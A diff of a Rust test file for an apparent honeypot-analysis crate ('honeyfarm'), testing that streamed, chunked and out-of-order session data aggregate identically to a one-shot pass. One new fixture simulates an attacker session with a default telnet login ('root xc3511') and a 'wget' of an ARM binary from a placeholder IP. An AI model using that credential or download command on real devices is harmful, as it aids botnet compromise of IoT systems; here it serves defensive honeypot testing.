@@ -8,16 +8,26 @@
 //!   `Aggregates::compute`, across thread counts {1, 2, 8} and scales
 //!   {0.001, 0.01} — aggregates, tags, reports, and the claims table.
 //! * `FoldOutput::from_snapshot_stream` (chunked snapshot reader feeding
-//!   the fold) against materializing the same snapshot.
-//! * A proptest that *any* day-aligned partition of the row range folds
-//!   and assembles (`Aggregates::partial` + `Aggregates::assemble`) to the
-//!   same state as the one-shot pass — the associativity the whole
-//!   streaming design rests on.
+//!   the fold, many chunks cut mid-day) against materializing the same
+//!   snapshot.
+//! * A proptest that cutting the rows *anywhere* — mid-day included — into
+//!   `StreamingFold::ingest_rows` calls folds to the same state as the
+//!   one-shot `Aggregates::compute`: the property the whole streaming
+//!   design rests on.
+//!
+//! Plus the unordered-store rule: `Aggregates::compute` and
+//! `cluster::extract` over a store whose rows are out of day order equal
+//! the same records ingested in day order.
 
 use std::sync::OnceLock;
 
+use honeyfarm::cluster;
+use honeyfarm::core::StreamingFold;
+use honeyfarm::geo::{World, WorldConfig};
 use honeyfarm::prelude::*;
-use honeyfarm::testkit::{claims, diff_aggregates, diff_datasets, diff_reports, diff_tagdbs};
+use honeyfarm::testkit::{
+    claims, diff_aggregates, diff_datasets, diff_features, diff_reports, diff_tagdbs, Scenario,
+};
 use proptest::prelude::*;
 
 /// Run one streaming-vs-materialized differential at the given config.
@@ -81,14 +91,17 @@ fn fold_matches_materialized_scale_0_01() {
 }
 
 /// Streaming a snapshot chunk-by-chunk into the fold must equal
-/// materializing the whole snapshot and computing over it.
+/// materializing the whole snapshot and computing over it. 97-row chunks
+/// give the fixture many chunks, most of them ending mid-day, so the
+/// reader's overlapped arm runs (the serial arm under
+/// `HF_SNAPSHOT_NO_OVERLAP`).
 #[test]
 fn snapshot_stream_fold_matches_materialized_load() {
     let config = SimConfig::test(10);
     let out = Simulation::run(config.clone());
     let mut bytes = Vec::new();
     out.to_snapshot(&config)
-        .write_to(&mut bytes)
+        .write_to_chunked(&mut bytes, 97)
         .expect("write snapshot");
 
     let materialized = SimOutput::from_snapshot(
@@ -115,55 +128,92 @@ fn snapshot_stream_fold_matches_materialized_load() {
     diff_reports("materialized", &report_mat, "streamed", &report_fold).assert_identical();
 }
 
-/// Shared fixture for the partition property: one materialized run plus
-/// its day-boundary row indices.
-fn partition_fixture() -> &'static (SimOutput, Aggregates, Vec<usize>) {
-    static FIXTURE: OnceLock<(SimOutput, Aggregates, Vec<usize>)> = OnceLock::new();
+/// Shared fixture for the partition property: one materialized run and its
+/// one-shot aggregates.
+fn partition_fixture() -> &'static (SimOutput, Aggregates) {
+    static FIXTURE: OnceLock<(SimOutput, Aggregates)> = OnceLock::new();
     FIXTURE.get_or_init(|| {
         let out = Simulation::run(SimConfig::test(12));
         let agg = Aggregates::compute(&out.dataset);
-        let store = &out.dataset.sessions;
-        // Row indices where a new day starts — the only legal cut points.
-        let mut boundaries = Vec::new();
-        let mut last_day = u32::MAX;
-        for i in 0..store.len() {
-            let day = store.view(i).day();
-            if day != last_day {
-                boundaries.push(i);
-                last_day = day;
-            }
-        }
-        assert!(boundaries.len() > 4, "fixture needs several days");
-        (out, agg, boundaries)
+        (out, agg)
     })
 }
 
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(32))]
 
-    /// Any subset of day boundaries partitions the rows into contiguous
-    /// day-aligned shards; folding each shard with `Aggregates::partial`
-    /// and combining with `Aggregates::assemble` is bit-identical to the
-    /// one-shot materialized pass.
+    /// Cut the rows at arbitrary row indices and fold each piece with its
+    /// own `ingest_rows` call: bit-identical to the one-shot
+    /// `Aggregates::compute`. Cuts come from every row index, so they fall
+    /// mid-day the way 64 Ki-row snapshot chunk boundaries do, and every
+    /// partition has at least one such cut.
     #[test]
-    fn day_window_partitions_assemble_identically(cut_mask in prop::collection::vec(any::<bool>(), 16..64)) {
-        let (out, agg, boundaries) = partition_fixture();
+    fn day_window_partitions_assemble_identically(
+        mut cuts in prop::collection::vec(1..partition_fixture().0.dataset.len(), 1..16)
+    ) {
+        let (out, agg) = partition_fixture();
         let store = &out.dataset.sessions;
+        let rows = store.rows();
+        cuts.sort_unstable();
+        cuts.dedup();
+        prop_assert!(
+            cuts.iter().any(|&c| store.view(c - 1).day() == store.view(c).day()),
+            "no cut falls inside a day: {cuts:?}"
+        );
 
-        // Cut points: always row 0, plus any selected interior boundary.
-        let mut cuts = vec![0usize];
-        for (i, &b) in boundaries.iter().enumerate().skip(1) {
-            if *cut_mask.get(i % cut_mask.len()).unwrap_or(&false) {
-                cuts.push(b);
-            }
+        let mut fold = StreamingFold::new(out.dataset.plan.len());
+        let mut start = 0;
+        for end in cuts.into_iter().chain([rows.len()]) {
+            fold.ingest_rows(store, &out.dataset.plan, &rows[start..end]);
+            start = end;
         }
-        cuts.push(store.len());
-
-        let parts: Vec<_> = cuts
-            .windows(2)
-            .map(|w| Aggregates::partial(&out.dataset, w[0]..w[1]))
-            .collect();
-        let assembled = Aggregates::assemble(out.dataset.plan.len(), parts);
-        diff_aggregates("one-shot", agg, "partitioned", &assembled).assert_identical();
+        diff_aggregates("one-shot", agg, "partitioned", &fold.finish()).assert_identical();
     }
+}
+
+/// Replay `.hfs` scenario texts into one collector, in the given order.
+fn ingest_scenarios(texts: &[&str]) -> Dataset {
+    let world = World::build(1, &WorldConfig::tiny());
+    let mut collector = Collector::new(&world, FarmPlan::paper());
+    for text in texts {
+        collector.ingest(&Scenario::parse(text).expect("scenario").replay());
+    }
+    collector.finish()
+}
+
+/// A store whose rows are out of day order folds as if its records had
+/// been ingested in day order: `compute` and `extract` take a start-sorted
+/// copy of the rows. The sessions differ only in day and honeypot, so
+/// every interned id is the same whichever comes first, and the repeated
+/// client, credential and download make each out-of-order mistake visible
+/// (first sightings, daily unique clients, distinct active days).
+#[test]
+fn unordered_store_folds_as_if_ingested_in_day_order() {
+    let session = |day: u32, honeypot: u16| {
+        format!(
+            "name day{day}\nprotocol telnet\nhoneypot {honeypot}\nclient 198.51.100.66\n\
+             start {day} 43200\nlogin root xc3511\ncmd wget http://198.51.100.9/bins/x.arm7\n\
+             transfer 20\nclose\n"
+        )
+    };
+    let (day3, day1, day3_again) = (session(3, 13), session(1, 40), session(3, 7));
+    let unordered = ingest_scenarios(&[&day3, &day1, &day3_again]);
+    assert!(!unordered.sessions.is_day_ordered());
+    let ordered = ingest_scenarios(&[&day1, &day3, &day3_again]);
+    assert!(ordered.sessions.is_day_ordered());
+
+    diff_aggregates(
+        "day order",
+        &Aggregates::compute(&ordered),
+        "unordered",
+        &Aggregates::compute(&unordered),
+    )
+    .assert_identical();
+    diff_features(
+        &cluster::extract(&ordered).matrix(),
+        &cluster::extract(&unordered).matrix(),
+        "day order",
+        "unordered",
+    )
+    .assert_identical();
 }
